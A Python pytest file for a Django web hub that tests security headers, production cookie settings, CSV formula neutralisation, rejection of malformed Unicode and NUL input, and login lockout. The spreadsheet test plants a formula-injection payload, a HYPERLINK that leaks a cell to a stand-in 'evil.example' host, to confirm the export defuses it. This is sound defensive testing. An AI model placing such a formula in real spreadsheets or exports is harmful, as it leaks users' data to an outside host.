"""Headers, exports and odd input: a Content-Security-Policy with no inline script,
production's HSTS and cookies, spreadsheets that run no formula, texts no database refuses,
and sign-in that locks out guessing."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import zipfile
from typing import Any

import pytest
from django.test import Client

from cchub.records.writes import apply
from cchub.support.models import Ticket
from cchub.testing import factories
from cchub.testing.helpers import PASSWORD, Api, make_user, token_for

pytestmark = pytest.mark.django_db

PAGES = ["/", "/centres/", "/centres/escape-vo/", "/services/", "/search/?q=vo", "/support/",
         "/glossary/", "/training/", "/landscape/", "/landscape/gaps/", "/accounts/login/"]


@pytest.mark.demo  # the pages as the demo fills them
def test_every_page_has_a_strict_policy_and_no_inline_script() -> None:
    for path in PAGES:
        response = Client().get(path)
        assert response.status_code == 200, path
        policy = dict(part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";"))
        assert policy["script-src"] == "'self'" and policy["object-src"] == "'none'", path
        assert policy["frame-ancestors"] == "'none'" and "unsafe" not in policy["style-src"], path
        assert "camera=()" in response["Permissions-Policy"]
        body = response.content.decode()
        scripts = re.findall(r"<script(?![^>]*(?:src=|application/ld\+json))[^>]*>", body)
        assert not scripts, (path, scripts)
        assert not re.search(r"\son[a-z]+=\"", body), path  # no inline event handlers
    embed = Client().get("/onboarding/embed/")
    assert embed.status_code == 200 and "X-Frame-Options" not in embed
    assert "frame-ancestors *" in embed["Content-Security-Policy"]


def production_settings(**extra: str) -> dict[str, Any]:
    env = {**os.environ, "CCHUB_MODE": "production", "CCHUB_SECRET_KEY": "k" * 20 + "q1w2e3r4t5y6" * 4,
           "CCHUB_DEBUG": "0", "CCHUB_ALLOWED_HOSTS": "hub.example.org", **extra}
    names = ("SECURE_HSTS_SECONDS", "SESSION_COOKIE_SECURE", "CSRF_COOKIE_SECURE", "SESSION_COOKIE_SAMESITE",
             "CSRF_COOKIE_SAMESITE", "SESSION_COOKIE_HTTPONLY", "AXES_ENABLED", "DEBUG")
    code = ("import json; from cchub import settings as s; "
            f"print(json.dumps({{k: getattr(s, k, None) for k in {names!r}}}))")
    out = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True)
    return dict(json.loads(out.stdout))


def test_production_sends_hsts_and_keeps_cookies_secure() -> None:
    found = production_settings(CCHUB_LOGIN_THROTTLE="")
    assert found["SECURE_HSTS_SECONDS"] >= 31536000 and found["DEBUG"] is False
    assert found["SESSION_COOKIE_SECURE"] and found["CSRF_COOKIE_SECURE"] and found["SESSION_COOKIE_HTTPONLY"]
    assert found["SESSION_COOKIE_SAMESITE"] == "Lax" and found["CSRF_COOKIE_SAMESITE"] == "Lax"
    assert found["AXES_ENABLED"] is True


def test_spreadsheets_run_no_formula(admin_user: Any) -> None:
    apply(factories.centre("ESCAPE-CC"),
          {"name": "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"click\")"}, admin_user, partial=True)
    archive = zipfile.ZipFile(io.BytesIO(Client().get("/landscape/report/?format=csv").content))
    cells = [cell for name in archive.namelist()
             for row in archive.read(name).decode().splitlines() for cell in row.split(",")]
    assert any(cell.startswith("\"'=HYPERLINK") or cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith(("=", "\"=", "+", "@")) for cell in cells)
    from cchub.lib.text import csv_cell, from_csv_cell

    assert csv_cell("-3.5") == "-3.5" and csv_cell(-3) == -3 and csv_cell("@SUM(1)") == "'@SUM(1)"
    assert from_csv_cell(str(csv_cell("=1+1"))) == "=1+1" and from_csv_cell("'plain") == "'plain"


@pytest.mark.parametrize("path,method,body", [
    ("/api/v1/support/tickets", "post", '{"subject": "x\\ud800", "body": "b", "email": "a@example.org"}'),
    ("/api/v1/glossary/terms", "post", '{"pref_label": "Zeta", "definition": "\\udfff"}'),
    ("/api/v1/centres/kit", "patch", '{"description": "ok", "languages": ["en\\ud83d"]}'),
    ("/api/v1/organisations", "post", '{"slug": "odd", "name": "Odd \\ud800 org"}'),
])
def test_lone_surrogates_are_refused_by_name(path: str, method: str, body: str, admin_user: Any) -> None:
    factories.centre("KIT")
    api = Api(token_for(admin_user))
    tickets = Ticket.objects.count()
    answer = api.send(method, path, raw=body, headers={"If-Match": "*"})
    assert answer.status_code == 400, answer.content
    assert "surrogate" in answer.json()["detail"] and answer.json()["errors"][0]["field"]
    assert Ticket.objects.count() == tickets
    # A NUL is taken out and the rest is kept.
    ok = Api().send("post", "/api/v1/support/tickets", raw='{"subject": "a\\u0000b", "body": "b", '
                    '"email": "nul@example.org"}')
    assert ok.status_code == 201 and Ticket.objects.get(requester_email="nul@example.org").subject == "ab"


def test_sign_in_locks_out_guessing(settings: Any) -> None:
    settings.AXES_ENABLED = True
    victim, bystander = make_user("victim"), make_user("bystander")
    client = Client()
    for attempt in range(1, settings.AXES_FAILURE_LIMIT + 1):
        answer = client.post("/accounts/login/", {"username": "victim", "password": "wrong"})
        assert answer.status_code == (200 if attempt < settings.AXES_FAILURE_LIMIT else 429)
    locked = client.post("/accounts/login/", {"username": "victim", "password": PASSWORD})
    assert locked.status_code == 429 and "Too many failed sign-ins" in locked.content.decode()
    assert "_auth_user_id" not in client.session
    # The admin's login is guarded the same way; another person is not locked out.
    assert Client().post("/admin/login/", {"username": "victim", "password": PASSWORD}).status_code == 429
    other = Client()
    assert other.post("/accounts/login/", {"username": "bystander", "password": PASSWORD}).status_code == 302
    assert victim.pk and bystander.pk


def test_nul_characters_in_addresses_and_forms_never_reach_the_database() -> None:
    """PostgreSQL refuses NUL in text: it once answered 500 to ``?call=%00``."""
    client = Client()
    for path in ("/api/v1/onboarding/projects?call=%00x&cluster=a%00", "/centres/?q=vo%00",
                 "/search/?q=%00", "/api/v1/centres?q=%00&country=%00", "/glossary/?q=%00"):
        assert client.get(path).status_code == 200, path
    assert client.get("/api/v1/centres/kit%00").status_code == 400
    assert client.get("/centres/kit%00/").status_code == 400
    answer = client.post("/support/", {"subject": "NUL\x00 here", "body": "b\x00", "email": "n@example.org",
                                       "priority": "less-urgent"})
    assert answer.status_code == 200
    assert Ticket.objects.get(requester_email="n@example.org").subject == "NUL here"
